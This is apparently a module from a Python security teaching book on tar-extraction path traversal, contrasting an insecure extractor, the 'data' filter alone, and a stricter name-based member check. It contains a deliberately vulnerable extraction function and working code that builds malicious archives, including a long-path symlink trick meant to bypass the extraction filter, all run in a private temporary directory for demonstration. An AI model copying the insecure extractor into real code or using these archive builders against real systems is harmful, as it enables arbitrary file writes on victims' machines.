"""Extracting a tar archive writes wherever its members say, and the "data" filter has holes.

A tar member can be named ``../x`` or ``/abs/x``, or be a symbolic link to a directory
outside the target through which a later member is written. ``TarFile.extractall`` without
a filter honours all of them. The extraction filters of PEP 706 (3.11.4 and later) were meant
to stop this: ``filter="data"`` refuses ``..`` and links that leave the target, and strips
the leading ``/`` of absolute names. But the filter decides with ``os.path.realpath``, and an
archive can build paths that ``realpath`` resolves differently from the kernel: on a path
longer than ``PATH_MAX`` the interpreters before the June 2025 security releases stopped
following links and answered "inside" for a link that leads outside (CVE-2025-4517, with
CVE-2025-4138, CVE-2025-4330 and CVE-2024-12718). More bypasses of the same filter were fixed
in 2026. So the secure version here checks every member itself, by its name alone and before
anything is written, and uses the filter only on top.

The archives are built and extracted inside a private temporary directory, and every
"outside" the attack aims at is a directory inside that private directory.
Book page: ``book/practices/files``.
"""

from __future__ import annotations

import io
import os
import tarfile
import warnings
from collections.abc import Callable, Iterable
from pathlib import Path, PurePosixPath

from pysecbook.teaching.risks import Outcome, Risk, register
from pysecbook.teaching.sandbox import private_tmpdir

#: The links and path lengths of the long-path trick: this many one-letter links in a row.
_DEPTH = 16


class UnsafeMember(tarfile.TarError):
    """An archive member that could land outside the destination; nothing was extracted."""

    def __init__(self, member: tarfile.TarInfo, reason: str) -> None:
        name = member.name if len(member.name) <= 60 else f"{member.name[:24]}...{member.name[-24:]}"
        super().__init__(f"{name!r}: {reason}")
        self.member = member


def extract_insecure(archive: str, destination: str) -> None:
    """Unpack an uploaded tar archive into ``destination``, trusting every member."""
    import tarfile

    with tarfile.open(archive) as tar:
        # "fully_trusted" is what extractall() does without a filter before Python 3.14; it
        # is written out so that 3.12 and 3.13 do not warn and 3.14 does not change it.
        tar.extractall(destination, filter="fully_trusted")  # nosec B202 - deliberately insecure: demonstration of PSB-TARFILE-EXTRACTALL


def extract_with_data_filter(archive: str, destination: str) -> None:
    """Unpack an uploaded tar archive with the extraction filter alone (the usual advice)."""
    import tarfile

    with tarfile.open(archive) as tar:
        tar.extractall(destination, filter="data")


def check_members(members: Iterable[tarfile.TarInfo], destination: str) -> None:
    """Raise :class:`UnsafeMember` unless every member stays inside ``destination`` by name.

    Decided from the names alone, never by resolving paths on disk: no absolute name, no
    ``..``, nothing but files, directories and links; no member written through a link (one
    in the archive, or one already in ``destination``); and every link target, followed
    component by component from the link's own directory, stays inside without passing
    through another link. A hard link may not point at a symbolic link. This refuses some
    honest archives too (files placed through a link the archive itself makes), which is the
    price of not trusting ``realpath``. Names are POSIX paths; on Windows, refuse
    backslashes and drive letters as well.
    """
    members = list(members)
    dest = Path(destination)
    links = {PurePosixPath(m.name).as_posix() for m in members if m.issym() or m.islnk()}

    def through_link(parts: tuple[str, ...]) -> bool:
        """Is any prefix of ``parts`` a link, in the archive or on disk? (Fails closed.)"""
        for i in range(1, len(parts) + 1):
            if "/".join(parts[:i]) in links:
                return True
            try:
                if dest.joinpath(*parts[:i]).is_symlink():
                    return True
            except OSError:
                return True
        return False

    for m in members:
        path = PurePosixPath(m.name)
        if path.is_absolute() or ".." in path.parts or not path.parts:
            raise UnsafeMember(m, "absolute name, '..' or no name")
        if not (m.isfile() or m.isdir() or m.issym() or m.islnk()):
            raise UnsafeMember(m, "not a file, a directory or a link")
        if through_link(path.parts[:-1]):
            raise UnsafeMember(m, "written through a link")
        if not (m.issym() or m.islnk()):
            continue
        target = PurePosixPath(m.linkname)
        if target.is_absolute():
            raise UnsafeMember(m, "link to an absolute path")
        resolved = list(path.parts[:-1]) if m.issym() else []  # hard links: from the root
        steps = [part for part in target.parts if part != "."]
        for i, part in enumerate(steps):
            if part == "..":
                if not resolved:
                    raise UnsafeMember(m, "link leaves the destination")
                if through_link(tuple(resolved)):  # '..' after a link is the link's parent
                    raise UnsafeMember(m, "link target goes through another link")
                resolved.pop()
            else:
                resolved.append(part)
                if i < len(steps) - 1 and through_link(tuple(resolved)):
                    raise UnsafeMember(m, "link target goes through another link")
        if m.islnk() and "/".join(resolved) in links:
            raise UnsafeMember(m, "hard link to a link")


def extract_secure(archive: str, destination: str) -> None:
    """Unpack an uploaded tar archive only if every member stays inside by its name alone."""
    import tarfile

    with tarfile.open(archive) as tar:
        check_members(tar.getmembers(), destination)
        tar.extractall(destination, filter="data")


def _add_file(tar: tarfile.TarFile, name: str, text: str) -> None:
    data = text.encode()
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def _add_link(tar: tarfile.TarFile, name: str, target: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.SYMTYPE
    info.linkname = target
    tar.addfile(info)


def _add_dir(tar: tarfile.TarFile, name: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    info.mode = 0o755
    tar.addfile(info)


def add_long_path_trick(tar: tarfile.TarFile, destination_length: int) -> None:
    """Members that reach the destination's parent through a path ``realpath`` gives up on.

    Sixteen directories with names of about 250 bytes, each reached by a one-letter link, so
    that ``a/b/.../p`` is short in the archive but long on disk. A link with a 254-byte name at
    the end of that chain points sixteen levels up, back at the destination: legitimate. Its
    full path is longer than ``PATH_MAX``, so the ``realpath`` of an unfixed interpreter stops
    following links there and resolves ``LINK/..`` lexically, inside the chain; the kernel
    follows the link and lands in the destination's parent. A link ``escape`` to ``LINK/..``
    passes the filter, and ``escape/planted.txt`` is written through it. The attacker only
    needs a rough idea of how long the destination's path is; the demonstration computes it.
    """
    room = os.pathconf("/", "PC_PATH_MAX") - 1 - destination_length - 1
    name_len = min(250, room // _DEPTH - 1)
    letters = "abcdefghijklmnop"[:_DEPTH]
    real = ""
    for letter in letters:
        directory = f"{real}/{'d' * name_len}" if real else "d" * name_len
        _add_dir(tar, directory)
        _add_link(tar, f"{real}/{letter}" if real else letter, "d" * name_len)
        real = directory
    long_link = "/".join(letters) + "/" + "l" * 254
    _add_link(tar, long_link, "/".join([".."] * _DEPTH))
    _add_link(tar, "escape", f"{long_link}/..")
    _add_file(tar, "escape/long-path.txt", "planted")


TRICKS = ("dot-dot", "absolute", "symlink", "long-path")


def build_archive(trick: str, box: Path, destination: Path) -> Path:
    """One archive for ``trick``, aiming at a file ``<trick>.txt`` in ``box``, the parent of
    ``destination``."""
    path = box / f"{trick}.tar"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        _add_file(tar, "readme.txt", "harmless")
        if trick == "dot-dot":
            _add_file(tar, "../dot-dot.txt", "planted")
        elif trick == "absolute":
            _add_file(tar, str(box / "absolute.txt"), "planted")
        elif trick == "symlink":
            _add_link(tar, "escape", str(box))
            _add_file(tar, "escape/symlink.txt", "planted")
        else:
            add_long_path_trick(tar, len(str(destination)))
    return path


def attack(func: Callable[..., None], tricks: Iterable[str] = TRICKS) -> Outcome:
    """Mallory uploads one archive per trick; does any of them write outside the target?"""
    results = []
    escaped = False
    with private_tmpdir() as tmp:
        for trick in tricks:
            box = tmp / trick  # "outside" is this directory, itself inside the private one
            target = box / "out"
            target.mkdir(parents=True)
            archive = build_archive(trick, box, target)
            try:
                func(str(archive), str(target))
                error = ""
            except (tarfile.TarError, OSError, TypeError) as exc:
                error = f"{type(exc).__name__}: {exc}".replace(str(tmp), "<tmp>")
                error = error if len(error) < 160 else error[:157] + "..."
            planted = (box / f"{trick}.txt").exists()
            escaped = escaped or planted
            if planted:
                results.append(f"{trick}: wrote {trick}.txt outside the target")
            elif error:
                results.append(f"{trick}: refused ({error})")
            else:
                results.append(f"{trick}: extracted, but kept inside the target")
    return Outcome(attack_succeeded=escaped, observed="; ".join(results))


def filter_alone() -> Outcome:
    """The long-path trick against ``filter="data"`` alone, on the running interpreter."""
    return attack(extract_with_data_filter, ("long-path",))


def default_filter_behaviour() -> dict[str, object]:
    """What this Python does when ``extractall`` is called with no filter at all.

    Extracts a harmless one-file archive with no ``filter=`` argument, recording warnings.
    """
    with private_tmpdir() as tmp, warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        archive = tmp / "plain.tar"
        with tarfile.open(archive, "w") as tar:
            _add_file(tar, "readme.txt", "harmless")
        with tarfile.open(archive) as tar:
            tar.extractall(tmp / "out")  # nosec B202 - trusted one-file archive built just above
        return {
            "has_data_filter": hasattr(tarfile, "data_filter"),
            "TarFile.extraction_filter": tarfile.TarFile.extraction_filter,
            "warnings": [f"{w.category.__name__}: {w.message}" for w in caught],
        }


RISK = register(
    Risk(
        id="PSB-TARFILE-EXTRACTALL",
        title="Tar extraction without a filter writes outside the target",
        summary="Members named '../x', '/abs/x' or reached through a link land anywhere; "
        "check every member's name and links before extracting, then use filter='data'.",
        cwe=22,
        bandit=("B202",),
        modules=("tarfile",),
        page="practices/files",
        insecure=extract_insecure,
        secure=extract_secure,
        attack=attack,
    )
)
